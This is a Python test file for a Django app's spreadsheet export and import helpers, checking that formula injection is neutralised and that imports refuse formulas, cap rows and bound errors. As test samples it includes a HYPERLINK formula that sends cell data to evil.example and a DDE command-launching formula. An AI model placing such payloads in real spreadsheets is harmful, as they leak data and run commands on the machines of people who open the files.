"""User text is written as text, never as a formula; imports refuse formulas, stop at a row cap, bound errors."""

import io
import pathlib
import re

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from kinerja.core import spreadsheets

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def _reload(data: bytes):
    return load_workbook(io.BytesIO(data), data_only=False)


def test_strings_starting_with_an_equals_sign_are_written_as_text_in_normal_and_streaming_workbooks():
    for write_only in (False, True):
        workbook = Workbook(write_only=write_only)
        sheet = workbook.create_sheet("Data") if write_only else workbook.active
        spreadsheets.append_row(sheet, [HOSTILE, "+62 811", "-", "@SUM(A1)", "biasa", 5])
        reloaded = _reload(spreadsheets.workbook_bytes(workbook)).worksheets[0]
        cell = reloaded["A1"]
        assert cell.data_type == "s" and cell.value == HOSTILE and cell.quotePrefix
        row = next(reloaded.iter_rows(values_only=True))
        assert row == (HOSTILE, "+62 811", "-", "@SUM(A1)", "biasa", 5)


def test_the_save_sweep_turns_any_formula_left_in_a_normal_workbook_into_text():
    workbook = Workbook()
    workbook.active["B2"] = "=1+1"
    workbook.active.cell(row=3, column=1, value="=cmd|' /C calc'!A0")
    sheet = _reload(spreadsheets.workbook_bytes(workbook)).active
    assert sheet["B2"].data_type == "s" and sheet["A3"].data_type == "s"


def test_csv_text_prefixes_the_owasp_trigger_characters():
    assert [spreadsheets.csv_text(v) for v in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", None, 5]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "ok",
        "",
        "5",
    ]


def _book(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "S"
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_sheet_rows_name_formula_cells_and_keep_text_that_starts_with_equals():
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "S"
    sheet.append(["a", "b"])
    sheet.append(["=SUM(1,2)", "x"])
    spreadsheets.append_row(sheet, ["=teks", "y"])
    buffer = io.BytesIO()
    workbook.save(buffer)  # saved as is: the formula stays a formula
    opened = spreadsheets.open_workbook(buffer.getvalue())
    rows = list(spreadsheets.sheet_rows(opened["S"]))
    assert rows == [
        (2, (None, "x"), ["Sheet S, cell A2 holds a formula; type the value itself."]),
        (3, ("=teks", "y"), []),
    ]


def test_sheet_rows_refuse_overlong_text_and_nul_characters_naming_the_cell(settings):
    settings.TEXT_MAX_LENGTH = 10
    opened = spreadsheets.open_workbook(_book([["a", "b"], ["x" * 11, "ok"], ["ok", "a\x00b".replace("\x00", "")]]))
    rows = list(spreadsheets.sheet_rows(opened["S"]))
    assert rows[0] == (
        2,
        (None, "ok"),
        ["Sheet S, cell A2 holds text longer than 10 characters or a null character."],
    )
    assert spreadsheets.formula_message("S", ["A2"]) == "Sheet S, cell A2 holds a formula; type the value itself."


def test_sheet_rows_stop_at_the_cap_without_reading_the_rest():
    data = _book([["h"]] + [[n] for n in range(50)])
    with pytest.raises(ValidationError, match="more than 10 rows"):
        list(spreadsheets.sheet_rows(spreadsheets.open_workbook(data)["S"], max_rows=10))
    assert len(list(spreadsheets.sheet_rows(spreadsheets.open_workbook(data)["S"], max_rows=50))) == 50


def test_error_lists_keep_a_bounded_number_and_say_how_many_more(settings):
    settings.IMPORT_MAX_ERRORS = 3
    errors = spreadsheets.ErrorList()
    for number in range(10):
        errors.append((number, "salah"))
    errors.close(lambda message: (0, message))
    assert errors[:3] == [(0, "salah"), (1, "salah"), (2, "salah")]
    assert errors[3] == (0, "… and 7 more errors.") and len(errors) == 4


def test_every_workbook_kinerja_writes_goes_through_the_shared_writer():
    """No module builds or saves a workbook, appends rows or opens one for import by hand."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py" or ".venv" in path.parts:
            continue
        text = path.read_text()
        if "openpyxl" not in text and "csv.writer" not in text:
            continue
        for pattern in (
            r"\.save\(buffer\)",
            r"load_workbook\(",
            r"\b(sheet|summary|info|help_sheet)\.append\(",
            r"csv\.writer",
        ):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(root)}: {pattern}")
    assert offenders == []


def test_a_sheet_without_dimension_is_not_scanned_before_the_row_cap_stops_it():
    import time

    workbook = Workbook(write_only=True)  # streaming writers write no <dimension>
    sheet = workbook.create_sheet("S")
    sheet.append(["h"])
    for number in range(20000):
        sheet.append([number, "teks " * 10])
    buffer = io.BytesIO()
    workbook.save(buffer)
    started = time.process_time()
    opened = spreadsheets.open_workbook(buffer.getvalue())
    with pytest.raises(ValidationError, match="more than 10 rows"):
        list(spreadsheets.sheet_rows(opened["S"], max_rows=10))
    assert time.process_time() - started < 0.5  # openpyxl's own size scan read all 20,000 rows first (~2.5 s)
    assert spreadsheets.open_workbook(_book([["a"], ["b"]]))["S"].max_row == 2  # <dimension> still read
